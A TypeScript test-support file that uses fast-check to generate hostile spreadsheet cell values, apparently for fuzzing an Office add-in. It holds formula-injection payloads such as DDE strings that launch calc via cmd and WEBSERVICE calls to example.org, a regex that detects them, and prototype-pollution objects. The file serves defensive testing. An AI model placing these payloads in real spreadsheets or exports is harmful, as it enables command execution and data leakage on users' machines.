import fc from 'fast-check';
import { HOSTILE_NAMES } from '../../support/hostileNames';
import { HOSTILE_NUMBERS } from '../../support/hostileNumbers';

/** Text that a spreadsheet would run if it were written as a formula; each holds a word of `FOREIGN_FORMULA`. */
export const FORMULA_TEXTS = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=WEBSERVICE("http://example.org")',
  '\r=cmd|x',
  '\n=cmd|x',
  ' =cmd|x',
  "'=cmd|x",
  '==cmd|x',
  '=DDE("cmd";"/C calc";"x")cmd',
  '=WEBSERVICE("http://example.org/"&A1)',
  '=HYPERLINK("http://example.org","WEBSERVICE")',
  '＝cmd|x',
  '"=cmd|x"',
  '";=cmd|x;"',
  '",=cmd|x,"',
  '"&cmd|x&"',
  ')+cmd|x+(',
  "'!A1+cmd|x",
] as const;

/** What stands in a formula only where one of `FORMULA_TEXTS` was taken for one. */
export const FOREIGN_FORMULA = /cmd|WEBSERVICE|DDE\(/;

/** The names that every object, array and function has. */
const OBJECT_WORDS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'length',
];

const ODD_LETTERS = [
  '\u0000',
  '\ufeff',
  '\u00a0',
  '\u200b',
  '\u202e',
  '\u2028',
  '\ud800',
  '\udfff',
  '\u{1f600}',
  'e\u0301',
  'İ',
  'ß',
  'ﬀ',
  '١٢٣',
  '½',
  '−1',
  '٫',
  '\u001a',
  '\u007f',
];

/** As long as a cell of Excel can be. */
const LONGEST_CELL = 32_767;
const filled = (piece: string, length = LONGEST_CELL): string =>
  piece.repeat(Math.ceil(length / piece.length)).slice(0, length);

/** Endless repetitions, each with an end that does not fit. */
const LONG_TEXTS = [
  ...[
    ' ',
    '0',
    '9',
    'a',
    '-',
    '+',
    '.',
    ',',
    '=',
    '(',
    '/',
    ':',
    "'",
    '"',
    '1 ',
    '1.',
    ' ,',
    '1-',
    'w1',
    '&#',
    '<',
    '{',
    '\n',
  ],
].flatMap((piece) => [filled(piece), `${filled(piece, LONGEST_CELL - 2)}x!`]);

const DATES_OUT_OF_RANGE = [
  '0000/00/00',
  '2024/02/30',
  '9999/12/31',
  '99999/1/1',
  '1899/12/31',
  '31/31/2024',
  '-1',
  '2958466',
  '1e9',
];

export const shortText = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom<string>(...FORMULA_TEXTS) },
  { weight: 2, arbitrary: fc.constantFrom<string>(...HOSTILE_NAMES) },
  { weight: 2, arbitrary: fc.constantFrom(...OBJECT_WORDS) },
  { weight: 2, arbitrary: fc.constantFrom(...ODD_LETTERS) },
  { weight: 1, arbitrary: fc.constantFrom(...DATES_OUT_OF_RANGE) },
  { weight: 2, arbitrary: fc.string({ maxLength: 12 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) },
);

/** Any text at all; once in a while as long as a cell takes. */
export const hostileText = fc.oneof(
  { weight: 300, arbitrary: shortText },
  { weight: 1, arbitrary: fc.constantFrom(...LONG_TEXTS) },
);

/** What Office can hand over as a cell, with what it should never hand over. */
export const hostileCell: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileText },
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_NUMBERS) },
  { weight: 2, arbitrary: fc.integer({ min: -10, max: 50_000 }) },
  { weight: 1, arbitrary: fc.double() },
  {
    weight: 1,
    arbitrary: fc.constantFrom<unknown>(
      undefined,
      '#N/A',
      '#REF!',
      '#BUSY!',
      { code: '#DIV/0!' },
      { code: 7 },
      { basicValue: '=cmd|x' },
      { basicValue: { basicValue: 1 } },
      { type: 'Error', basicValue: '#VALUE!' },
      JSON.parse('{"__proto__":{"polluted":true},"code":"__proto__"}'),
      [],
      [[1]],
    ),
  },
);
